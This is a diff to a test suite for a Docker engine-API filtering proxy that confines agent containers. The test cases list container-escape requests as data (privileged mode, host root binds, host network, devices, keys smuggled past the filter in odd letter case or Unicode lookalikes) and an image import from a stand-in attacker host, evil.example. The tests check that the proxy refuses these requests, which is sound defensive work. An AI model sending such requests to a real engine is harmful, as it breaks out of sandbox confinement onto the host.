@@ -1,13 +1,16 @@
 import { once } from 'node:events';
+import { createServer, request } from 'node:http';
 import os from 'node:os';
 import path from 'node:path';
+import { text } from 'node:stream/consumers';
 import { canary } from '@agentbot/test-doubles/canaries';
 import { makeStandIn } from '@agentbot/test-doubles/stand-in';
 import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
 import Docker from 'dockerode';
-import { allowedCall, allowedCalls } from '../src/engine-proxy/allowed-calls.ts';
+import { type AllowedCall, allowedCall, allowedCalls } from '../src/engine-proxy/allowed-calls.ts';
 import { createEngineProxy } from '../src/engine-proxy/engine-proxy.ts';
 import { randomName } from '../src/ids.ts';
+import { confinement } from '../src/runtime/container-options.ts';
 import { sweep } from '../src/runtime/sweep.ts';
 import { startBackendWithDocker, type TestBackend } from './backend.ts';
 
@@ -15,12 +18,13 @@ import { startBackendWithDocker, type TestBackend } from './backend.ts';
 
 const IMAGE = 'agentbot/openclaw-test:proxied';
 const socket = path.join(os.tmpdir(), `engine-${randomName(8)}.sock`);
-const used = new Set<string>();
+const used = new Set<AllowedCall>();
 const refused: string[] = [];
 const proxy = createEngineProxy({
   socketPath: new URL(process.env.DOCKER_HOST || 'unix:///var/run/docker.sock').pathname,
   onCall: (method, url, allowed) => {
-    if (allowed) used.add(String(allowedCalls.indexOf(allowedCall(method, url) as (typeof allowedCalls)[number])));
+    const call = allowed && allowedCall(method, url)?.call;
+    if (call) used.add(call);
     else refused.push(`${method} ${url}`);
   },
 });
@@ -33,6 +37,11 @@ beforeAll(async () => {
   proxy.listen(socket);
   await once(proxy, 'listening');
   removeImage = await makeStandIn('agentbot/openclaw:2026.3.13', IMAGE);
+  // Without the mark of a warm image, so that its cache is filled as well.
+  const container = await new Docker().createContainer({ Image: IMAGE });
+  const [repo, tag] = IMAGE.split(':');
+  await container.commit({ repo, tag, changes: 'LABEL agentbot.recipe=' });
+  await container.remove({ v: true });
   backend = await startBackendWithDocker('proxied', {
     DOCKER_HOST: `unix://${socket}`,
     OPENCLAW_IMAGE: IMAGE,
@@ -53,6 +62,8 @@ test('an agent lives its whole life through it', async () => {
   const { body } = await backend.as(owner, 'POST', '/api/agents/provision', { name: 'Filtered', model: 'custom', config });
   const { id } = body.agent;
   await backend.settled(id);
+  const [made] = (await backend.as(owner, 'GET', `/api/agents/${id}/operations`)).body.operations;
+  expect(made.steps.map((step: { name: string }) => step.name)).toEqual(['image', 'validate', 'warm', 'create', 'start', 'ready']);
   for (const action of ['stop', 'start', 'restart', 'update', 'repair', 'reset-memory']) {
     const answer = await backend.machine(owner, 'POST', `/api/agents/${id}/${action}`, action === 'update' ? {} : undefined);
     expect([action, answer.status, answer.body.error]).toEqual([action, 200, undefined]);
@@ -66,43 +77,117 @@ test('an agent lives its whole life through it', async () => {
   // An image that is nowhere is asked for, and not found.
   await filtered.pull('localhost:1/nowhere:none').catch(() => undefined);
   expect(refused).toEqual([]);
-  const unused = allowedCalls
-    .filter((_call, index) => !used.has(String(index)))
-    .map(({ method, path: { source } }) => `${method} ${source}`);
+  const unused = allowedCalls.filter((call) => !used.has(call)).map(({ method, path: { source } }) => `${method} ${source}`);
   expect(unused).toEqual([]);
 }, 180_000);
 
 describe('what the backend never asks', () => {
+  const labels = { 'agentbot.installation': 'x' };
+  const volumeMount = { Type: 'volume', Source: 'openclaw-x', Target: '/home/node/.openclaw' };
   const sane = {
     Image: IMAGE,
+    Labels: labels,
     User: '1000:1000',
-    Labels: { 'agentbot.installation': 'x' },
-    HostConfig: { CapDrop: ['ALL'], SecurityOpt: ['no-new-privileges'], ReadonlyRootfs: true, NetworkMode: 'none' },
+    HostConfig: { ...confinement, PidsLimit: 64, Memory: 64 * 1024 ** 2, NetworkMode: 'none', Mounts: [volumeMount] },
+  };
+  const volume = { Name: 'openclaw-data-x', Labels: labels };
+  const network = {
+    Name: 'openclaw-net-x',
+    Driver: 'bridge',
+    Labels: labels,
+    IPAM: { Driver: 'default', Config: [{ Subnet: '10.248.255.0/29' }] },
   };
   const asking = (changes: object, host: object = {}) => ({ ...sane, ...changes, HostConfig: { ...sane.HostConfig, ...host } });
+  const mounting = (changes: object) => asking({}, { Mounts: [{ ...volumeMount, ...changes }] });
+
+  /** What the engine would be asked, as text, so that names can stand twice. */
+  const send = (method: string, url: string, body?: string, type = 'application/json') =>
+    new Promise<number | undefined>((resolve, reject) => {
+      const headers = body === undefined ? {} : { 'content-type': type, 'content-length': Buffer.byteLength(body) };
+      request({ socketPath: socket, method, path: url, headers }, (answer) => resolve(answer.resume().statusCode))
+        .on('error', reject)
+        .end(body);
+    });
+  const make = (what: string, body: object) => send('POST', `/v1.41/${what}/create`, JSON.stringify(body));
+
+  test('what these are made from is let through', async () => {
+    const options = { socketPath: `${socket}.heard` };
+    const heard: { address: string; type: string | undefined; body: string }[] = [];
+    const engine = createServer(async (asked, answer) => {
+      heard.push({ address: `${asked.method} ${asked.url}`, type: asked.headers['content-type'], body: await text(asked) });
+      answer.writeHead(201).end();
+    }).listen(options.socketPath);
+    const between = createEngineProxy(options).listen(`${socket}.between`);
+    await Promise.all([once(engine, 'listening'), once(between, 'listening')]);
+    const pass = (url: string, body: string, type: string) =>
+      new Promise<void>((resolve) => {
+        const headers = { 'content-type': type, 'content-length': Buffer.byteLength(body), 'x-registry-auth': 'e30=' };
+        request({ socketPath: `${socket}.between`, method: 'POST', path: url, headers }, (answer) =>
+          answer.resume().on('end', resolve),
+        ).end(body);
+      });
+    const twice = `{"User":"0:0",${JSON.stringify(sane).slice(1)}`;
+    await pass('/v1.41/containers/create?name=openclaw-x', twice, 'text/plain');
+    await pass('/v1.41/volumes/create', JSON.stringify(volume), 'application/json');
+    await pass('/v1.41/networks/create', JSON.stringify(network), 'application/json');
+    // A form's fields would be read like parameters, and a HostConfig at the start like one at the making.
+    await pass('/v1.41/images/create?fromImage=nowhere&tag=none', 'fromSrc=-&repo=agentbot/backend', 'application/x-www-form-urlencoded');
+    await pass('/v1.41/containers/openclaw-x/start', '{"Privileged":true}', 'application/json');
+    for (const server of [engine, between]) server.close();
+    const type = 'application/json';
+    expect(heard).toEqual([
+      { address: 'POST /v1.41/containers/create?name=openclaw-x', type, body: JSON.stringify(sane) },
+      { address: 'POST /v1.41/volumes/create', type, body: JSON.stringify(volume) },
+      { address: 'POST /v1.41/networks/create', type, body: JSON.stringify(network) },
+      { address: 'POST /v1.41/images/create?fromImage=nowhere&tag=none', type: undefined, body: '' },
+      { address: 'POST /v1.41/containers/openclaw-x/start', type: undefined, body: '' },
+    ]);
+  });
 
   test.each<[string, object]>([
     ['privileges', asking({}, { Privileged: true })],
     ['a capability', asking({}, { CapAdd: ['NET_ADMIN'] })],
     ['its capabilities kept', asking({}, { CapDrop: [] })],
     ['a folder of the host', asking({}, { Binds: ['/:/host'] })],
-    ['a folder of the host as a mount', asking({}, { Mounts: [{ Type: 'bind', Source: '/', Target: '/host' }] })],
-    [
-      'a folder of the host as a volume',
-      asking(
-        {},
-        { Mounts: [{ Type: 'volume', Source: 'openclaw-x', Target: '/h', VolumeOptions: { DriverConfig: { Options: { device: '/' } } } }] },
-      ),
-    ],
-    ['another’s volume', asking({}, { Mounts: [{ Type: 'volume', Source: 'postgres', Target: '/h' }] })],
+    ['a folder of the host as a mount', mounting({ Type: 'bind', Source: '/' })],
+    ['a folder of the host as a volume', mounting({ VolumeOptions: { DriverConfig: { Options: { device: '/' } } } })],
+    ['another’s volume', mounting({ Source: 'postgres' })],
     ['the host’s network', asking({}, { NetworkMode: 'host' })],
     ['another container’s network', asking({}, { NetworkMode: 'container:postgres' })],
     ['the host’s processes', asking({}, { PidMode: 'host' })],
     ['a device', asking({}, { Devices: [{ PathOnHost: '/dev/sda' }] })],
+    ['a port for everyone', asking({}, { PortBindings: { '18789/tcp': [{ HostIp: '', HostPort: '22' }] } })],
     ['root', asking({ User: '0:0' })],
     ['nobody’s label', asking({ Labels: {} })],
+    // The engine reads names in any case, with other signs for s and k too, and takes the last.
+    ['privileges in small letters', { ...sane, hostconfig: { Privileged: true, Binds: ['/:/host'] } }],
+    ['privileges in a HoſtConfig', { ...sane, HoſtConfig: { Privileged: true } }],
+    ['one privilege in small letters', asking({}, { privileged: true })],
+    ['root in small letters', { ...sane, user: '0:0' }],
+    ['its capabilities kept in small letters', asking({}, { capdrop: [] })],
+    ['a network in small letters', asking({}, { networkmode: 'host' })],
+    ['a network with a KELVIN SIGN', asking({}, { NetworKMode: 'host' })],
+    ['a folder of the host as a mount in small letters', mounting({ type: 'bind', source: '/' })],
+    ['mounts in small letters', asking({}, { mounts: [{ Type: 'bind', Source: '/', Target: '/host' }] })],
+    ['a volume’s options in small letters', mounting({ volumeoptions: { driverconfig: { options: { device: '/' } } } })],
+    ['a network’s settings', { ...sane, networkingconfig: { EndpointsConfig: { host: {} } } }],
+    ['a field that a later engine may have', asking({}, { Later: true })],
   ])('a container with %s', async (_what, body) => {
-    await expect(filtered.createContainer(body as never)).rejects.toMatchObject({ statusCode: 403 });
+    expect(await make('containers', body)).toBe(403);
+  });
+
+  test.each<[string, string, object]>([
+    ['volume that is a folder of the host', 'volumes', { ...volume, DriverOpts: { type: 'none', device: '/', o: 'bind' } }],
+    ['volume that is a folder in small letters', 'volumes', { ...volume, driveropts: { type: 'none', device: '/', o: 'bind' } }],
+    ['volume that is not named as ours', 'volumes', { ...volume, Name: 'postgres' }],
+    ['volume that is not named as ours in small letters', 'volumes', { ...volume, name: 'postgres' }],
+    ['volume of another driver', 'volumes', { ...volume, Driver: 'local' }],
+    ['network that is not named as ours', 'networks', { ...network, Name: 'postgres' }],
+    ['network of another driver in small letters', 'networks', { ...network, driver: 'macvlan' }],
+    ['network with options in small letters', 'networks', { ...network, options: { parent: 'eth0' } }],
+    ['network that is too large', 'networks', { ...network, IPAM: { Driver: 'default', Config: [{ Subnet: '0.0.0.0/1' }] } }],
+  ])('a %s', async (_what, kind, body) => {
+    expect(await make(kind, body)).toBe(403);
   });
 
   test.each<[string, string]>([
@@ -131,26 +216,20 @@ describe('what the backend never asks', () => {
     ['GET', '/v1.41/volumes/postgres'],
     ['DELETE', '/v1.41/volumes/postgres'],
     ['DELETE', '/v1.41/networks/bridge'],
+    ['POST', '/v1.41/images/create?fromSrc=http://evil.example/x.tar&repo=agentbot/backend&tag=local'],
+    ['POST', '/v1.41/images/create?fromImage=nowhere&tag=none&fromSrc=-&repo=agentbot/backend'],
+    ['POST', '/v1.41/images/create?fromImage=nowhere&tag=none&changes=USER%20root'],
+    ['POST', '/v1.41/images/create?fromImage=nowhere&fromImage=elsewhere&tag=none'],
+    ['POST', '/v1.41/images/create?fromImage=agentbot/backend&tag=local'],
+    ['POST', '/v1.41/images/create?fromImage=docker.io/agentbot/backend:local&tag='],
+    ['POST', '/v1.41/containers/openclaw-x/start?detachKeys=a'],
+    ['PUT', '/v1.41/containers/openclaw-x/archive?path=/'],
+    ['GET', '/v1.41/containers/openclaw-x/archive?path=/proc'],
+    ['DELETE', '/v1.41/containers/openclaw-x?force=true&link=true'],
+    // Older versions take a HostConfig at a container's start.
+    ['POST', '/v1.23/containers/openclaw-x/start'],
+    ['POST', '/containers/openclaw-x/start'],
   ])('%s %s', async (method, url) => {
-    const { request } = await import('node:http');
-    const status = await new Promise((resolve) => {
-      request({ socketPath: socket, method, path: url }, (answer) => resolve(answer.statusCode)).end();
-    });
-    expect(status).toBe(403);
-  });
-
-  test('a volume that is a folder of the host', async () => {
-    const body = {
-      Name: 'openclaw-data-x',
-      Labels: { 'agentbot.installation': 'x' },
-      DriverOpts: { type: 'none', device: '/', o: 'bind' },
-    };
-    await expect(filtered.createVolume(body)).rejects.toMatchObject({ statusCode: 403 });
-  });
-
-  test('a volume or a network that is not named as ours', async () => {
-    const body = { Name: 'postgres', Labels: { 'agentbot.installation': 'x' } };
-    await expect(filtered.createVolume(body)).rejects.toMatchObject({ statusCode: 403 });
-    await expect(filtered.createNetwork(body)).rejects.toMatchObject({ statusCode: 403 });
+    expect(await send(method, url)).toBe(403);
   });
 });
